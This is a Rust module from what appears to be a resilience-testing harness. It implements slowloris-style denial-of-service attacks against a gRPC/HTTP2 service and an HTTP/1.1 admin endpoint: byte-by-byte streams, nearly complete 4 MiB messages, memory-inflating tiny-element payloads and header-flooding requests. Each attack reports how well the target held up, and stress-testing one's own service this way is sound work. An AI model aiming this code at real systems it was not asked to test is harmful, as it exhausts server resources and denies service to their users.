//! Requests that never end: a message is announced and then arrives byte by byte.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::time::{Instant, sleep, timeout};

use crate::run::{Attack, Outcome};
use crate::target::Target;
use crate::wire;

/// The attacks of this family.
pub const ATTACKS: &[Attack] = &[
    ("c-slow-data", |target| {
        let address = target.addresses().data;
        Box::pin(slow(address, &[wire::GET, wire::BATCH, wire::WATCH]))
    }),
    ("c-slow-insight", |target| {
        let address = target.addresses().data;
        Box::pin(slow(
            address,
            &["/entail.v1.PolicyInsightService/PreviewChange"],
        ))
    }),
    ("c-slow-health-reflection", |target| {
        let address = target.addresses().data;
        Box::pin(slow(address, &[wire::HEALTH, wire::REFLECTION]))
    }),
    ("c-slow-health-listener", |target| {
        let address = target.addresses().health;
        Box::pin(slow(address, &[wire::HEALTH]))
    }),
    ("c-slow-admin-listener", |target| {
        Box::pin(slow_admin(target))
    }),
    ("c-nearly-whole-messages", |target| {
        let address = target.addresses().data;
        Box::pin(nearly_whole(address, &[wire::BATCH, wire::GET]))
    }),
    ("c-tiny-elements", |target| {
        let address = target.addresses().data;
        Box::pin(tiny_elements(
            address,
            &[wire::BATCH, wire::GET, wire::WATCH],
        ))
    }),
    ("c-waiting-headers", |target| {
        let address = target.addresses().data;
        Box::pin(waiting_headers(address, &[wire::GET, wire::BATCH]))
    }),
    ("c-nearly-whole-health", |target| {
        let address = target.addresses().health;
        Box::pin(nearly_whole(address, &[wire::HEALTH]))
    }),
];

/// The number of requests.
const REQUESTS: usize = 300;
/// How long bytes are sent.
const SENDING: Duration = Duration::from_secs(10);
/// The announced size of a message: the most that is allowed.
const ANNOUNCED: u32 = 4 << 20;

/// The beginning of a frame of the announced size.
fn announcement() -> Bytes {
    [&[0], &ANNOUNCED.to_be_bytes()[..]].concat().into()
}

/// Sends a byte a second on many streams of a few connections.
async fn slow(address: SocketAddr, methods: &'static [&'static str]) -> Outcome {
    let mut streams = Vec::new();
    let connections = 10;
    for _ in 0..connections {
        let connection = wire::connect(address).await?;
        for number in 0..REQUESTS / connections {
            let method = methods[number % methods.len()];
            let (reply, mut sending) = wire::open(&connection, method).await?;
            sending
                .send_data(announcement(), false)
                .map_err(|error| error.to_string())?;
            streams.push((reply, sending));
        }
    }
    let end = Instant::now() + SENDING;
    let mut ended = 0;
    while Instant::now() < end {
        let before = streams.len();
        streams
            .retain_mut(|(_, sending)| sending.send_data(Bytes::from_static(b"\n"), false).is_ok());
        ended += before - streams.len();
        sleep(Duration::from_secs(1)).await;
    }
    Ok(format!(
        "{} of {REQUESTS} requests are still open after {} s, {ended} were ended",
        streams.len(),
        SENDING.as_secs()
    ))
}

/// Sends the headers of an HTTP/1.1 request byte by byte.
async fn slow_admin(target: Arc<Target>) -> Outcome {
    let mut open = Vec::new();
    for _ in 0..REQUESTS {
        let mut stream = TcpStream::connect(target.addresses().admin)
            .await
            .map_err(|error| error.to_string())?;
        stream
            .write_all(b"GET /metrics HTTP/1.1\r\nhost: a\r\nx-slow: ")
            .await
            .map_err(|error| error.to_string())?;
        open.push(stream);
    }
    let end = Instant::now() + SENDING;
    let mut ended = 0;
    while Instant::now() < end {
        let mut still = Vec::new();
        for mut stream in open {
            match stream.write_all(b"a").await {
                Ok(()) => still.push(stream),
                Err(_) => ended += 1,
            }
        }
        open = still;
        sleep(Duration::from_secs(1)).await;
    }
    Ok(format!(
        "{} of {REQUESTS} connections are open, {ended} were closed",
        open.len()
    ))
}

/// Sends all but the last byte of messages of the largest size, and waits.
async fn nearly_whole(address: SocketAddr, methods: &'static [&'static str]) -> Outcome {
    let begin = Instant::now();
    let mut sending = tokio::task::JoinSet::new();
    let connections = 10;
    for _ in 0..connections {
        sending.spawn(async move {
            let connection = wire::connect(address).await?;
            let mut streams = Vec::new();
            for number in 0..REQUESTS / connections {
                let method = methods[number % methods.len()];
                let (reply, mut body) = wire::open(&connection, method).await?;
                let mut text = announcement().to_vec();
                text.resize(text.len() + ANNOUNCED as usize - 1, b'\n');
                let sent = timeout(Duration::from_secs(6), give(&mut body, text.into())).await;
                let bytes = sent.unwrap_or(0);
                streams.push((reply, body, bytes));
                if begin.elapsed() > Duration::from_secs(12) {
                    break;
                }
            }
            Ok::<_, String>(streams)
        });
    }
    let mut open = Vec::new();
    while let Some(streams) = sending.join_next().await {
        open.extend(streams.map_err(|error| error.to_string())??);
    }
    sleep(Duration::from_secs(3)).await;
    let bytes: usize = open.iter().map(|(_, _, bytes)| bytes).sum();
    Ok(format!(
        "{} requests, {} MiB taken by the server",
        open.len(),
        bytes >> 20
    ))
}

/// Sends messages of the largest size that consist of empty elements, which would take a hundred times as much memory.
async fn tiny_elements(address: SocketAddr, methods: &'static [&'static str]) -> Outcome {
    let end = Instant::now() + SENDING;
    let mut sending = tokio::task::JoinSet::new();
    for first in 0..8 {
        sending.spawn(async move {
            let connection = wire::connect(address).await?;
            let mut sent = 0;
            while Instant::now() < end {
                let method = methods[(first + sent) % methods.len()];
                // The first field of a batch and of a stream, and the kinds of a request.
                let tag = if method == wire::GET { 0x1A } else { 0x0A };
                let mut text = announcement().to_vec();
                text.resize(text.len() + ANNOUNCED as usize, 0);
                text[5..].iter_mut().step_by(2).for_each(|byte| *byte = tag);
                // It is refused.
                let _ = wire::call(&connection, method, text.into(), Duration::from_secs(6)).await;
                sent += 1;
            }
            Ok::<_, String>(sent)
        });
    }
    let mut all = 0;
    while let Some(sent) = sending.join_next().await {
        all += sent.map_err(|error| error.to_string())??;
    }
    Ok(format!("{all} messages"))
}

/// Opens requests with as many headers as are permitted, which take hardly any bytes after the first, and sends no message.
async fn waiting_headers(address: SocketAddr, methods: &'static [&'static str]) -> Outcome {
    let mut open = Vec::new();
    let mut refused = 0;
    for _ in 0..10 {
        let connection = wire::connect(address).await?;
        for number in 0..1_000 {
            let mut request = wire::request(methods[number % methods.len()]);
            for header in 0..120 {
                let name = format!("x-{header}").parse::<http::HeaderName>();
                let name = name.map_err(|error| error.to_string())?;
                let value = http::HeaderValue::from_static("waiting");
                request.headers_mut().insert(name, value);
            }
            let ready = timeout(Duration::from_secs(1), connection.clone().ready()).await;
            let Ok(Ok(mut requests)) = ready else {
                refused += 1;
                break;
            };
            match requests.send_request(request, false) {
                Ok(stream) => open.push(stream),
                Err(_) => refused += 1,
            }
        }
    }
    sleep(SENDING / 2).await;
    Ok(format!("{} requests, {refused} refused", open.len()))
}

/// Sends data as far as the windows allow. Returns how much, or 0 if the stream was reset.
async fn give(body: &mut h2::SendStream<Bytes>, mut data: Bytes) -> usize {
    let whole = data.len();
    while !data.is_empty() {
        body.reserve_capacity(data.len().min(1 << 16));
        let capacity = std::future::poll_fn(|context| body.poll_capacity(context)).await;
        let Some(Ok(capacity)) = capacity else {
            return 0;
        };
        let part = data.split_to(capacity.min(data.len()));
        if body.send_data(part, false).is_err() {
            return 0;
        }
    }
    whole
}
